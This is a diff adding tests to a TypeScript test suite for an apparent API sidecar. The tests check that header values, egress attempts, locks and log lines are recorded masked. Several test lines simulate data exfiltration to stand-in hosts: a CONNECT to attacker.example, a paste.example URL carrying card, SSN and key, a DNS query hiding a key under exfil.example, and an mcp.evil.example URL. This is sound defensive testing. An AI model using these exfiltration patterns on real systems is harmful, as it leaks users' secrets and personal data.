@@ -5,8 +5,12 @@
 // tool results, metadata.user_id, thinking), reusing the mode's copy when that is the same.
 // Through a real sidecar in record mode: nothing the skill or Claude can write reaches the record
 // raw — a batch's JSONL results, a policy's reason and a refusal's message that quote the request,
-// "protocol" header values and the path.
+// "protocol" header values and the path, an answer's header values, an egress attempt's DNS name,
+// host or URL. Nor do lock and revocation events, nor the log lines of decisions, egress attempts,
+// locks and request ends (masked by the record's masker, left out without one).
+import dgram from 'node:dgram';
 import { existsSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import net from 'node:net';
 import { join } from 'node:path';
 import { Writable } from 'node:stream';
 import { pino } from 'pino';
@@ -15,7 +19,8 @@ import type { MaskingSpec } from '@skillgate/api';
 import { recordJournal } from '../src/record-journal.js';
 import { MaskerBook, maskingVerdict } from '../src/masking-modes.js';
 import { createLogger } from '../src/log.js';
-import { logJournal } from '../src/ports/journal.js';
+import { logJournal, withLogLines } from '../src/ports/journal.js';
+import { TEXT_NOT_LOGGED } from '../src/log.js';
 import type { Exchange } from '../src/exchange.js';
 import { startLocalSidecar, type LocalSidecar } from './local-sidecar.js';
 
@@ -271,6 +276,143 @@ describe('a sidecar in record mode records nothing the skill or Claude wrote raw
     expect(requests[1]!.data.headers).not.toHaveProperty('x-api-key');
     expect(requests[0]!.data.findings).toEqual([expect.objectContaining({ type: 'CREDIT_CARD', path: 'path' })]);
     expectMasked(events, ['4111-1111-1111-1111', EMAIL, PHONE, SSN, CARD, KEY, 'sk-ant-'], ['[CREDIT_CARD]', '[EMAIL_ADDRESS]', '[PHONE_NUMBER]', '[US_SSN]', '[SECRET]']);
+  });
+
+  test('an answer\'s header values are recorded masked, streamed or not (a download\'s content-disposition names the file), their findings named by header', async () => {
+    const disposition = `attachment; filename="card ${CARD}, SSN ${SSN}, ${EMAIL}, ${KEY}.txt"`;
+    const events = await recordedEvents('', { response: 2, stream_end: 1 }, async (s) => {
+      s.upstream.queue({ status: 200, headers: { 'content-type': 'application/octet-stream', 'content-disposition': disposition }, chunks: ['col\n1\n'] });
+      expect((await send(s, '/v1/files/file_01/content', { method: 'GET' })).status).toBe(200);
+      s.upstream.queue({
+        status: 200, headers: { 'content-type': 'text/event-stream', 'x-trace-note': `for ${EMAIL} card ${CARD}` },
+        chunks: ['event: message_start\ndata: {"type":"message_start","message":{"id":"msg_1","type":"message","role":"assistant","content":[],"model":"claude-sonnet-4-6"}}\n\n', 'event: message_stop\ndata: {"type":"message_stop"}\n\n'],
+      });
+      await send(s, '/v1/messages', { body: JSON.stringify({ model: 'claude-sonnet-4-6', max_tokens: 5, stream: true, messages: [{ role: 'user', content: 'hi' }] }) });
+    });
+    const responses = events.filter((e) => e.kind === 'response');
+    const download = responses.find((e) => e.data.stream === false)!;
+    const streamed = responses.find((e) => e.data.stream === true)!;
+    expect((download.data.headers as Record<string, string>)['content-disposition']).toBe('attachment; filename="card [CREDIT_CARD], SSN [US_SSN], [EMAIL_ADDRESS], [SECRET].txt"');
+    expect((download.data.headers as Record<string, string>)['content-type']).toBe('application/octet-stream');
+    expect(download.data.findings).toEqual(expect.arrayContaining([
+      expect.objectContaining({ type: 'CREDIT_CARD', path: 'headers.content-disposition' }), expect.objectContaining({ type: 'US_SSN', path: 'headers.content-disposition' }),
+      expect.objectContaining({ type: 'EMAIL_ADDRESS', path: 'headers.content-disposition' }), expect.objectContaining({ type: 'SECRET', path: 'headers.content-disposition' }),
+    ]));
+    expect((streamed.data.headers as Record<string, string>)['x-trace-note']).toBe('for [EMAIL_ADDRESS] card [CREDIT_CARD]');
+    expect(streamed.data.findings).toEqual([expect.objectContaining({ type: 'EMAIL_ADDRESS', path: 'headers.x-trace-note' }), expect.objectContaining({ type: 'CREDIT_CARD', path: 'headers.x-trace-note' })]);
+    expect(Object.keys(download.data)).toEqual([...Object.keys(download.data)].sort());
+    expect(Object.keys(streamed.data)).toEqual([...Object.keys(streamed.data)].sort());
+    expectMasked(events, [CARD, SSN, EMAIL, KEY, 'sk-ant-'], ['[CREDIT_CARD]', '[US_SSN]', '[EMAIL_ADDRESS]', '[SECRET]']);
+  });
+
+  test('an egress attempt\'s DNS name, CONNECT host and URL are recorded masked, a clean host as it is', async () => {
+    const exchange = (port: number, bytes: string) => new Promise<string>((resolve, reject) => {
+      const socket = net.connect(port, '127.0.0.1', () => socket.write(bytes));
+      let got = '';
+      socket.on('data', (d: Buffer) => { got += d.toString('latin1'); });
+      socket.on('close', () => resolve(got));
+      socket.on('error', reject);
+    });
+    const dnsQuery = (name: string): Buffer => Buffer.concat([
+      Buffer.from([0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]),
+      ...name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l, 'latin1')])), Buffer.from([0, 0, 1, 0, 1]),
+    ]);
+    const events = await recordedEvents('', { egress: 4 }, async (s) => {
+      const port = Number(new URL(s.sidecar.egressUrl).port);
+      expect(await exchange(port, `CONNECT 4111111111111111.ssn-536-22-8974.attacker.example:443 HTTP/1.1\r\nHost: x\r\n\r\n`)).toMatch(/^HTTP\/1\.1 403/);
+      expect(await exchange(port, `GET https://paste.example/u?email=${EMAIL}&card=4111111111111111&ssn=${SSN}&k=${KEY} HTTP/1.0\r\n\r\n`)).toMatch(/^HTTP\/1\.1 403/);
+      expect(await exchange(port, 'CONNECT paste.example:443 HTTP/1.1\r\nHost: x\r\n\r\n')).toMatch(/^HTTP\/1\.1 403/);
+      const udp = dgram.createSocket('udp4');
+      try {
+        await new Promise<void>((resolve) => {
+          udp.once('message', () => resolve());
+          udp.send(dnsQuery(`${KEY}.exfil.example`), s.sidecar.dnsPort, '127.0.0.1');
+        });
+      } finally {
+        udp.close();
+      }
+    });
+    const egress = events.filter((e) => e.kind === 'egress');
+    expect(egress.map((e) => e.data.destination).sort()).toEqual([
+      '[CREDIT_CARD].ssn-[US_SSN].attacker.example:443', '[SECRET].exfil.example',
+      'https://paste.example/u?email=[EMAIL_ADDRESS]&card=[CREDIT_CARD]&ssn=[US_SSN]&k=[SECRET]', 'paste.example:443',
+    ]);
+    const dns = egress.find((e) => String(e.data.method).startsWith('DNS '))!;
+    expect(dns.data.findings).toEqual([expect.objectContaining({ type: 'SECRET', path: 'destination' })]);
+    expect(egress.find((e) => e.data.destination === 'paste.example:443')!.data).not.toHaveProperty('findings');
+    for (const e of egress) expect(Object.keys(e.data)).toEqual([...Object.keys(e.data)].sort());
+    expectMasked(events, ['4111111111111111', '536-22-8974', EMAIL, KEY, 'sk-ant-'], ['[CREDIT_CARD]', '[US_SSN]', '[EMAIL_ADDRESS]', '[SECRET]']);
+  });
+});
+
+describe('events outside a request and log lines hold no raw value', () => {
+  const CARD = '4111 1111 1111 1111';
+  const SSN = '536-22-8974';
+  const EMAIL = 'jane.doe@example.com';
+  const KEY = `sk-ant-api03-${'Q7w'.repeat(14)}AA`;
+  const RAW = [CARD, SSN, EMAIL, KEY, 'sk-ant-', '4111111111111111'];
+  const reason = `offboarded: ${EMAIL} pasted card ${CARD}, SSN ${SSN} and key ${KEY}`;
+
+  function capture() {
+    const lines: string[] = [];
+    const log = pino({ level: 'debug' }, new Writable({ write(chunk: Buffer, _enc, done) { lines.push(chunk.toString()); done(); } }));
+    return { log, lines };
+  }
+  const expectNoneRaw = (text: string) => { for (const v of RAW) expect(text).not.toContain(v); };
+  const exchange = () => ({
+    id: 'req_1', req: { method: 'POST', headers: {} }, res: { headersSent: true, statusCode: 200 }, route: { kind: 'files', path: '/v1/files/file_01/content' },
+    bytesIn: 0, bytesOut: 0, receivedAt: process.hrtime.bigint(), outcome: 'error', outcomeReason: `masking the download failed: the text file ${EMAIL} ${CARD}.csv is not UTF-8`,
+  }) as unknown as Exchange;
+
+  test('a lock\'s name, target and reason and a revocation\'s reason are recorded masked, findings named by member', () => {
+    const book = new MaskerBook('record-journal-test-key');
+    const { journal, drafts } = journalOf(book, { mode: 'record' });
+    journal.skillEvent({ kind: 'lock', target: `owner/${EMAIL}`, lock: 'lock-4111111111111111', reason });
+    journal.skillEvent({ kind: 'revocation', token: 'jti_01', reason });
+    const [lock, revocation] = drafts as unknown as Array<{ kind: string; data: Record<string, unknown> }>;
+    expect(lock!.data).toEqual({
+      findings: expect.arrayContaining([expect.objectContaining({ type: 'CREDIT_CARD', path: 'lock' }), expect.objectContaining({ type: 'SECRET', path: 'reason' }), expect.objectContaining({ type: 'EMAIL_ADDRESS', path: 'target' })]),
+      lock: 'lock-[CREDIT_CARD]', reason: 'offboarded: [EMAIL_ADDRESS] pasted card [CREDIT_CARD], SSN [US_SSN] and key [SECRET]', target: 'owner/[EMAIL_ADDRESS]',
+    });
+    expect(revocation!.data).toEqual({ findings: expect.any(Array), reason: 'offboarded: [EMAIL_ADDRESS] pasted card [CREDIT_CARD], SSN [US_SSN] and key [SECRET]', token: 'jti_01' });
+    expectNoneRaw(JSON.stringify(drafts));
+  });
+
+  test('with the record\'s masker, the log lines of egress attempts, locks and request ends carry the text masked', () => {
+    const { log, lines } = capture();
+    const book = new MaskerBook('record-journal-test-key');
+    const journal = withLogLines(journalOf(book, { mode: 'record' }).journal, log);
+    journal.egress({ requestId: 'req_2', method: 'DNS A', destination: '4111111111111111.ssn-536-22-8974.attacker.example', allowed: false, reason });
+    journal.egress({ requestId: 'req_3', method: 'CONNECT', destination: 'api.github.com:443', allowed: true });
+    journal.skillEvent({ kind: 'lock', target: `owner/${EMAIL}`, lock: 'lock-4111111111111111', reason });
+    journal.end(exchange());
+    const parsed = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(parsed.map((l) => l.msg)).toEqual(['egress denied', 'egress allowed', 'lock in force for this skill', 'request']);
+    expect(parsed[0]).toMatchObject({ destination: '[CREDIT_CARD].ssn-[US_SSN].attacker.example', reason: 'offboarded: [EMAIL_ADDRESS] pasted card [CREDIT_CARD], SSN [US_SSN] and key [SECRET]' });
+    expect(parsed[1]).toMatchObject({ destination: 'api.github.com:443' });
+    expect(parsed[2]).toMatchObject({ target: 'owner/[EMAIL_ADDRESS]', lock: 'lock-[CREDIT_CARD]' });
+    expect(parsed[3]).toMatchObject({ reason: 'masking the download failed: the text file [EMAIL_ADDRESS] [CREDIT_CARD].csv is not UTF-8' });
+    expectNoneRaw(lines.join('\n'));
+  });
+
+  test('in log-only mode (no masker), decisions, approvals, egress attempts, locks and request ends leave such text out of their lines', () => {
+    const { log, lines } = capture();
+    const journal = logJournal(log);
+    const x = exchange();
+    journal.decision(x, { action: 'deny', policies: ['team-a/p'], rule: 'mcp', reason: `MCP server https://mcp.evil.example/sse?user=${EMAIL}&key=${KEY} is not allowed` });
+    journal.approval(x, { state: 'denied', approval: 'team-a/a1', reason });
+    journal.egress({ requestId: 'req_2', method: 'CONNECT', destination: '4111111111111111.attacker.example:443', allowed: false, reason });
+    journal.egress({ requestId: 'req_3', method: 'CONNECT', destination: '10.0.0.7:443', allowed: false });
+    journal.skillEvent({ kind: 'lock', target: 'skill/team-a/triage', lock: 'lock-4111111111111111', reason });
+    journal.skillEvent({ kind: 'revocation', token: 'jti_01', reason });
+    journal.end(x);
+    const parsed = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(parsed.map((l) => l.msg)).toEqual(['policy decision', 'approval', 'egress denied', 'egress denied', 'lock in force for this skill', 'workload token revoked', 'request']);
+    expect(parsed[0]).toMatchObject({ action: 'deny', rule: 'mcp', reason: TEXT_NOT_LOGGED });
+    expect(parsed[2]).toMatchObject({ destination: TEXT_NOT_LOGGED, reason: TEXT_NOT_LOGGED });
+    expect(parsed[3]).toMatchObject({ destination: '10.0.0.7:443' });
+    expect(parsed[6]).toMatchObject({ reason: TEXT_NOT_LOGGED, outcome: 'error' });
+    expectNoneRaw(lines.join('\n'));
   });
 });
 
